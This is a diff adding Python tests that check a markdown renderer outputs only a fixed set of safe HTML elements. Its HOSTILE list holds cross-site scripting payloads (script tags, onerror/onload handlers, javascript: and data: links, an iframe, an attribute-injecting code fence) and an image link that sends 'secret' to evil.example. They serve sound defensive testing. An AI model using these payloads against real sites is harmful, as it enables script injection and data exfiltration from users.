@@ -1,0 +1,52 @@
+"""What others wrote is shown as text: no HTML of theirs, no links, no pictures."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from flywheel.serve.console.markup import markdown
+
+KNOWN = re.compile(
+    r"</?(?:p|em|strong|code|pre|ul|ol|li|blockquote|hr|br|table|thead|tbody|tr|th|td|div)"
+    r'(?: class="(?:heading|table|scroll|language-[^"<>]*)"| tabindex="0"| start="\d+"'
+    r'| style="text-align:(?:left|right|center)")*\s?/?>'
+)
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "[here](javascript:alert(1))",
+    "![](https://evil.example/?q=secret)",
+    "<https://evil.example>",
+    "[a]: https://evil.example\n\n[a]",
+    "`<b>`",
+    "| a | b |\n|---|---|\n| <svg onload=alert(1)> | [x](data:text/html,1) |",
+    '```html" onclick="alert(1)\n</code><script>\n```',
+    "# <iframe src=x>",
+    "&lt;script&gt;&#x3c;b>",
+    "<!-- -->\n<style>*{}</style>",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_markup_of_others_stays_text(text: str) -> None:
+    shown = markdown(text)
+    assert "<" not in KNOWN.sub("", shown)
+    assert "href" not in KNOWN.sub("", shown) or "href" in text
+
+
+@given(st.text(alphabet="<>&\"'`[]()!#|-*_\\\n ahrefscipt:=/。好", max_size=200))
+def test_nothing_but_known_elements_comes_out(text: str) -> None:
+    assert "<" not in KNOWN.sub("", markdown(text))
+
+
+def test_what_documents_are_shaped_like_is_shown() -> None:
+    shown = markdown("# 儿童锁\n\n第一行\n第二行\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- x\n- y")
+    assert '<p class="heading">儿童锁</p>' in shown
+    assert "第一行<br" in shown
+    assert "<td>1</td>" in shown and "<li>x</li>" in shown
+    assert "<h1" not in shown
